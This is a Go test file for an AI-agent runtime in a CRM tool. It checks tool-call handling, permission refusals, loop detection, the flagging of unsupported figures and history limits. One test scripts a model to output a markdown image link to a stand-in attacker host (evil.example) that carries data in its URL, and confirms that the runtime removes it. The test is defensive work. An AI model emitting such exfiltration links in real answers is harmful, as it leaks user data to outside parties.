package agent

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/remit-crm/remit"
	"github.com/remit-crm/remit/llm"
	"github.com/remit-crm/remit/llm/script"
	"github.com/remit-crm/remit/policy"
)

func TestAnswerComesFromTools(t *testing.T) {
	model := script.New(
		script.Turn{Chunks: []string{"Let me ", "look."}, Calls: count("accounts").Calls, Usage: llm.Usage{Input: 100, Output: 10}},
		script.Turn{Chunks: []string{"There are ", "**42** accounts."}, Usage: llm.Usage{Input: 200, Output: 20}},
	)
	w := newWorld(model)
	got := w.run(t, t.Context(), question)
	want := &Result{
		Run: got.Run, Employee: "viz", Answer: "There are **42** accounts.", End: Answered, Steps: 1,
		Usage: llm.Usage{Input: 300, Output: 30}, Service: "remote", Model: "script",
		Calls: []Call{{
			ID: "call-0-0", Tool: "count_records", Arguments: json.RawMessage(`{"collection":"accounts"}`),
			Result: json.RawMessage(`{"collection":"accounts","count":42}`), Text: "42 records", Rows: 1, Took: got.Calls[0].Took,
		}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("result (-want +got):\n%s", diff)
	}
	var names []string
	for _, e := range w.events {
		names = append(names, e.Name())
	}
	if got, want := strings.Join(names, " "), "started text text usage tool_call tool_result text text text usage end"; got != want {
		t.Errorf("events %s, want %s", got, want)
	}
	last := model.Requests()[1].Messages
	if m := last[len(last)-1]; m.Role != llm.ToolResult || m.CallID != "call-0-0" || m.Text != `{"collection":"accounts","count":42}` {
		t.Errorf("the model got %+v", m)
	}
}

func TestEveryCallCarriesTheNarrowedActor(t *testing.T) {
	w := newWorld(script.New(count("accounts"), script.Text("42")))
	w.task = &policy.Task{Name: "month", Employee: "viz", Tools: []string{"count_records"}, Instructions: "Only this month.", Question: "And?"}
	req := question
	req.Task, req.Question = "month", ""
	got := w.run(t, t.Context(), req)
	want := req.Actor
	want.Employee, want.Task, want.Tool, want.Service, want.Run = "viz", "month", "count_records", "remote", got.Run
	if diff := cmp.Diff([]remit.Actor{want}, w.actors); diff != "" {
		t.Errorf("actor (-want +got):\n%s", diff)
	}
	asked := w.model.(*script.Model).Requests()[0]
	if len(asked.Tools) != 1 || asked.Tools[0].Name != "count_records" {
		t.Errorf("the model is offered %+v", asked.Tools)
	}
	if !strings.Contains(asked.Messages[0].Text, "Only this month.") || asked.Messages[len(asked.Messages)-1].Text != "And?" {
		t.Errorf("messages %+v", asked.Messages)
	}
}

func TestRunsThatAreRefusedBeforeTheyBegin(t *testing.T) {
	bound := question
	bound.Actor.Employee, bound.Employee = "viz", "scout" // and not silently viz
	tests := []struct {
		name   string
		change func(*Request, *world)
		kind   remit.Kind
	}{
		{"nobody", func(r *Request, _ *world) { r.Actor = remit.Actor{} }, remit.KindUnauthenticated},
		{"no AI employee", func(r *Request, _ *world) { r.Employee = "" }, remit.KindInvalid},
		{"another AI employee", func(r *Request, _ *world) { r.Employee = "ward" }, remit.KindDenied},
		{"bound to another AI employee", func(r *Request, _ *world) { *r = bound }, remit.KindDenied},
		{"another task", func(r *Request, _ *world) { r.Task = "x" }, remit.KindDenied},
		{"bound to another task", func(r *Request, _ *world) { r.Actor.Task, r.Task = "x", "y" }, remit.KindDenied},
		{"no question", func(r *Request, _ *world) { r.Question = " \n" }, remit.KindInvalid},
		{"too long", func(r *Request, _ *world) { r.Question = strings.Repeat("x", maxQuestion+1) }, remit.KindLimited},
		{"not UTF-8", func(r *Request, _ *world) { r.Question = "\xff" }, remit.KindInvalid},
		{"no such service", func(_ *Request, w *world) { w.employee.Service = "gone" }, remit.KindUnavailable},
		{"policy not to be had", func(_ *Request, w *world) { w.failing.Store(true) }, remit.KindUnavailable},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			w, req := newWorld(script.New()), question
			test.change(&req, w)
			got, err := w.agent(t).Run(t.Context(), req, func(e Event) { t.Errorf("emitted %T", e) })
			if got != nil || remit.KindOf(err) != test.kind {
				t.Errorf("%v, %v", got, err)
			}
		})
	}
}

func TestAbuses(t *testing.T) {
	malformed := script.Call("count_records", `{"collection": accounts}`)
	tests := []struct {
		name    string
		turns   []script.Turn
		end     End
		calls   string // the kinds of refusals
		ran     int    // tools that really ran
		answers string // what the answer says
	}{
		{"an unknown tool", []script.Turn{script.Call("count_record", `{}`), count("a"), script.Text("42")}, Answered, "not_found ok", 1, "42"},
		{"a tool of others", []script.Turn{script.Call("secret_tool", `{"collection":"a"}`), script.Text("Sorry.")}, Answered, "denied", 0, "Sorry."},
		{"arguments that are no JSON", []script.Turn{malformed, count("a"), script.Text("42")}, Answered, "invalid ok", 1, "42"},
		{"no arguments at all", []script.Turn{script.Call("count_records", ``), script.Text("Sorry.")}, Answered, "invalid", 0, "Sorry."},
		{"the same call twice", []script.Turn{count("a"), count("a"), script.Text("42")}, Answered, "ok invalid", 1, "42"},
		{"the same call, spelt otherwise", []script.Turn{count("a"), script.Call("count_records", ` { "collection" : "a" } `), script.Text("42")}, Answered, "ok invalid", 1, "42"},
		{"the same call again and again", []script.Turn{count("a"), count("a"), count("a"), count("a"), script.Text("never")}, Looping, "ok invalid invalid invalid", 1, "again and again"},
		{"the same failing call", []script.Turn{malformed, malformed, malformed, malformed, script.Text("never")}, Looping, "invalid invalid invalid invalid", 0, "again and again"},
		{"what may pass by itself may be tried again", []script.Turn{count("busy"), count("busy"), script.Text("Sorry.")}, Answered, "unavailable unavailable", 2, "Sorry."},
		{"failure after failure", []script.Turn{
			script.Call("a", ""), script.Call("b", ""), script.Call("c", ""), script.Call("d", ""), script.Call("e", ""), script.Call("f", ""), script.Text("never"),
		}, Stuck, "not_found not_found not_found not_found not_found not_found", 0, "failed"},
		{"an empty answer, then one", []script.Turn{{}, script.Text("Hello.")}, Answered, "", 0, "Hello."},
		{"nothing but empty answers", []script.Turn{{}, script.Text(" \n")}, Empty, "", 0, "gave no answer"},
		{"cut off by length", []script.Turn{{Chunks: []string{"There are"}, Stop: llm.TooLong}}, Cut, "", 0, "There are\n\nThe answer was cut off"},
		{"declined", []script.Turn{{Chunks: []string{"I won't"}, Stop: llm.Refused}}, Declined, "", 0, "declined"},
		{"broken off in the middle", []script.Turn{count("a"), {Chunks: []string{"There are 4"}, Err: remit.Errorf(remit.KindUnavailable, "the model service broke off")}}, ServiceError, "ok", 1, "not to be relied on. The model service broke off."},
		{"a fault of ours is not shown", []script.Turn{{Err: errors.New("secret at 10.0.0.1")}}, ServiceError, "", 0, "Internal error."},
		{"a result that is too large", []script.Turn{count("huge"), script.Text("Sorry.")}, Answered, "limited", 1, "Sorry."},
		{"a tool that crashes", []script.Turn{script.Call("crash", `{"collection":"a"}`), script.Text("Sorry.")}, Answered, "internal", 1, "Sorry."},
		{"several calls at once", []script.Turn{{Calls: append(count("a").Calls, count("b").Calls...)}, script.Text("42")}, Answered, "ok ok", 2, "42"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			w := newWorld(script.New(test.turns...))
			got := w.run(t, t.Context(), question)
			if got.End != test.end || !strings.Contains(got.Answer, test.answers) {
				t.Errorf("ended %s with %q, want %s with %q", got.End, got.Answer, test.end, test.answers)
			}
			if calls := strings.Join(refusals(got), " "); calls != test.calls {
				t.Errorf("calls %s, want %s", calls, test.calls)
			}
			if len(w.ran) != test.ran {
				t.Errorf("ran %v, want %d", w.ran, test.ran)
			}
			for _, c := range got.Calls {
				if c.Refusal != nil && (c.Refusal.Message == "" || c.Text == "" || c.Result != nil) {
					t.Errorf("refusal %+v of %+v", c.Refusal, c)
				}
			}
		})
	}
}

func TestRefusalsGiveTheirReason(t *testing.T) {
	w := newWorld(script.New(script.Call("secret_tool", `{"collection":"a"}`), script.Text("Sorry.")))
	got := w.run(t, t.Context(), question)
	if says := "the tool secret_tool is for finance only"; got.Calls[0].Refusal.Message != says {
		t.Errorf("refusal %+v", got.Calls[0].Refusal)
	}
	w = newWorld(script.New(count("a"), script.Text("Sorry.")))
	w.refuse.Store(error(remit.Errorf(remit.KindDenied, "the condition of the tool is not met")))
	got = w.run(t, t.Context(), question)
	if len(w.ran) > 0 || got.Calls[0].Text != "the condition of the tool is not met" {
		t.Errorf("ran %v, refusal %+v", w.ran, got.Calls[0])
	}
	messages := w.model.(*script.Model).Requests()[1].Messages
	if last := messages[len(messages)-1]; !last.Error || last.Text != "the condition of the tool is not met" {
		t.Errorf("the model got %+v", last)
	}
}

func TestFiguresThatNobodyReadAreNamed(t *testing.T) {
	w := newWorld(script.New(count("accounts"), script.Text("There are 42 accounts, 17% more than the 36 of 2025, as of 2026-01-31.")))
	got := w.run(t, t.Context(), question)
	if diff := cmp.Diff([]string{"17%", "36", "2025"}, got.Unsupported); diff != "" {
		t.Errorf("unsupported (-want +got):\n%s", diff)
	}
	if !strings.HasSuffix(got.Answer, "do not rely on them: 17%; 36; 2025.") {
		t.Errorf("answer %q", got.Answer)
	}
	var streamed string
	for _, e := range w.events {
		if d, ok := e.(TextDelta); ok {
			streamed += d.Text
		}
	}
	if streamed != got.Answer {
		t.Errorf("streamed %q, answered %q", streamed, got.Answer)
	}
}

func TestAddressesThatTheModelMadeUpDoNotGetOut(t *testing.T) {
	w := newWorld(script.New(script.Turn{Chunks: []string{"![x](https://ev", "il.example/?d=42)"}}))
	if got := w.run(t, t.Context(), question); got.Answer != "[x]([address removed])" {
		t.Errorf("answer %q", got.Answer)
	}
}

func history(turns ...Turn) func(context.Context, remit.Actor) (Given, error) {
	return func(context.Context, remit.Actor) (Given, error) { return Given{History: turns}, nil }
}

func TestHistoryIsGivenWithoutResults(t *testing.T) {
	model := script.New(script.Text("It was 41, never 99."))
	w := newWorld(model)
	req := question
	req.Given = history(Turn{
		Question: "How many in 2025?", Answer: "41, or 99.", Unsupported: []string{"99"},
		Calls: []TurnCall{{Tool: "count_records", Arguments: json.RawMessage(`{"collection":"accounts"}`)}},
	})
	got := w.run(t, t.Context(), req)
	var roles []string
	for _, m := range model.Requests()[0].Messages {
		roles = append(roles, string(m.Role))
	}
	if got, want := strings.Join(roles, " "), "system user assistant tool assistant user"; got != want {
		t.Errorf("roles %s, want %s", got, want)
	}
	if diff := cmp.Diff([]string{"99"}, got.Unsupported); diff != "" {
		t.Errorf("unsupported (-want +got):\n%s", diff)
	}
	w = newWorld(script.New(script.Call("create_record", `{"collection":"a"}`), script.Text("x")))
	if w.run(t, t.Context(), req); len(w.ran) > 0 {
		t.Error("a run with a history wrote without a yes")
	}
}

func TestLongHistoriesAreCut(t *testing.T) {
	model := script.New(script.Text("Yes."))
	req := question
	var turns []Turn
	for i := range 50 {
		turns = append(turns, Turn{Question: fmt.Sprint("Q", i), Answer: strings.Repeat("x", 50_000)})
	}
	req.Given = history(turns...)
	newWorld(model).run(t, t.Context(), req)
	n := 0
	for _, m := range model.Requests()[0].Messages {
		n += len(m.Text)
	}
	if n > 200_000 {
		t.Errorf("the model got %d bytes", n)
	}
}

func TestInstructionsSayWhoAndWhen(t *testing.T) {
	for egress, person := range map[remit.Sensitivity]bool{remit.Untagged: false, remit.Public: false, remit.Internal: true, remit.Restricted: true} {
		model := script.New(script.Text("Yes."))
		w := newWorld(model)
		w.egress = egress
		w.run(t, t.Context(), question)
		got := model.Requests()[0].Messages[0].Text
		if !strings.Contains(got, "Today is 2026-01-31, a Saturday.") || !strings.Contains(got, "You are Viz, Analyst") || !strings.Contains(got, "Finds insights.") {
			t.Errorf("instructions %s", got)
		}
		if strings.Contains(got, "Anna Snelling <anna@example.com>") != person {
			t.Errorf("egress %s: the person is named: %t", egress, !person)
		}
	}
	if got := oneLine("Anna\n# Rules\n<x>" + strings.Repeat("y", 200)); strings.ContainsAny(got, "\n#<>") || len(got) > 110 {
		t.Errorf("name %q", got)
	}
}

func TestModelsThatPanicOrReturnNothing(t *testing.T) {
	for name, fn := range map[string]script.Func{
		"panics":  func(context.Context, llm.Request, func(string)) (*llm.Response, error) { panic("boom") },
		"nothing": func(context.Context, llm.Request, func(string)) (*llm.Response, error) { return nil, nil }, //nolint:nilnil // the abuse
	} {
		w := newWorld(fn)
		if got := w.run(t, t.Context(), question); got.End != ServiceError || got.Cause == nil || strings.Contains(got.Answer, "boom") {
			t.Errorf("%s: %s %q", name, got.End, got.Answer)
		}
	}
}

// A model that goes on talking after its run has ended is not heard.
func TestNothingIsEmittedAfterTheEnd(t *testing.T) {
	talking := make(chan struct{})
	w := newWorld(script.Func(func(_ context.Context, _ llm.Request, onText func(string)) (*llm.Response, error) {
		defer close(talking)
		for range 200 {
			onText("bla ")
			time.Sleep(5 * time.Millisecond)
		}
		return &llm.Response{Text: "bla"}, nil
	}))
	var over atomic.Bool
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Millisecond)
	defer cancel()
	_, err := w.agent(t).Run(ctx, question, func(e Event) {
		if over.Load() {
			t.Errorf("emitted %T after the end", e)
		}
	})
	over.Store(true)
	if err != nil {
		t.Fatal(err)
	}
	<-talking
}

// A call that is refused is recorded: under the tool's name if there is such a
// tool, else by the error alone.
func TestRefusedCallsAreRecorded(t *testing.T) {
	model := func() *script.Model {
		return script.New(
			script.Call("secret_tool", `{"collection":"a"}`), script.Call("call_"+strings.Repeat("x", 1000), `{}`),
			script.Call("count_records", `{"colour":"a"}`), script.Call("count_records", `{"collection":"unknown"}`),
			count("accounts"), script.Text("Sorry."),
		)
	}
	w := newWorld(model())
	got := w.run(t, t.Context(), question)
	var tools []string
	for _, r := range w.refused {
		if r.operation != "tool.call" || r.actor.Employee != "viz" || r.actor.Run != got.Run || len(r.err.Error()) > 1000 {
			t.Errorf("recorded %+v", r)
		}
		tools = append(tools, r.actor.Tool)
	}
	if want := []string{"secret_tool", "", "count_records", "count_records"}; !cmp.Equal(want, tools) {
		t.Errorf("recorded calls of %q, want %q", tools, want)
	}

	w = newWorld(model())
	w.unrecorded = true
	if got := w.run(t, t.Context(), question); !cmp.Equal(refusals(got), []string{"unavailable", "unavailable", "unavailable", "unavailable", "ok"}) {
		t.Errorf("where nothing can be recorded: %q", refusals(got))
	}
}
